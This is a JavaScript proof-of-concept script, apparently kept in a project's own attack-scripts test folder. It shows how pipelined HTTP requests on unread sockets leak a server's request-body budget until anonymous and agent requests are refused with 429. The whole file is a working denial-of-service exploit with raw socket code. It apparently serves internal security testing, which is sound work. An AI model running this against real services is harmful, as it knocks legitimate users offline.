// PoC (H8-2): the body budget's charge leaks for a pipelined request whose answer is still queued behind an
// unfinished answer when the socket closes: Node never emits 'close' on a ServerResponse that was never given
// the socket, so `budget.release` never runs. 24 leaks of 1 MiB fill the non-operator share for good:
// every anonymous or agent request with a body is then 429 until restart.
// usage: node test/attack-scripts/pipelined-charge-leak.mjs <port> [rounds=26]
import net from 'node:net'
const [port, rounds = '26'] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const host = `127.0.0.1:${port}`
async function post(path, body, bearer) {
  const headers = { 'content-type': 'application/json' }
  if (bearer) headers.authorization = `Bearer ${bearer}`
  const r = await fetch(base + path, { method: 'POST', headers, body: JSON.stringify(body) })
  return { status: r.status, body: await r.json().catch(() => null) }
}
const creds = []
for (let i = 0; i < 3; i++) {
  const r = await post('/agents/register', { name: `pl${i}${Date.now() % 1000}` })
  creds.push({ did: r.body.identity.did, cred: r.body.identity.credential })
}
// a few large messages so that one GET /messages answer outlasts the socket (the client never reads it)
for (let i = 0; i < 4; i++) {
  const s = await post(
    '/messages/send',
    { fromDid: creds[0].did, toDid: null, message: '\u0001'.repeat(170_000) },
    creds[0].cred,
  )
  if (s.status >= 300) console.log('send', s.status, s.body)
}
const probe = () =>
  new Promise((res) => {
    const c = net.connect(Number(port), '127.0.0.1')
    let out = ''
    c.on('data', (d) => (out += d))
    c.on('close', () => res(out.split('\r\n')[0] + ' ' + out.slice(out.indexOf('\r\n\r\n') + 4)))
    c.write(
      `POST /verify HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
    )
  })
console.log('before:', await probe())
for (let i = 0; i < Number(rounds); i++) {
  const s = net.connect(Number(port), '127.0.0.1')
  s.on('error', () => undefined)
  await new Promise((r) => s.once('connect', r))
  s.pause() // never read
  const cred = creds[Math.floor(i / 14)].cred
  s.write(
    `GET /messages?limit=100 HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${cred}\r\n\r\n`.repeat(3) +
      `POST /verify HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${cred}\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n{`,
  )
  await new Promise((r) => setTimeout(r, 300))
  s.destroy()
}
await new Promise((r) => setTimeout(r, 2000))
console.log('after', rounds, 'rounds, a fresh anonymous POST /verify:', await probe())
await new Promise((r) => setTimeout(r, 30000))
console.log('30 s later:', await probe())
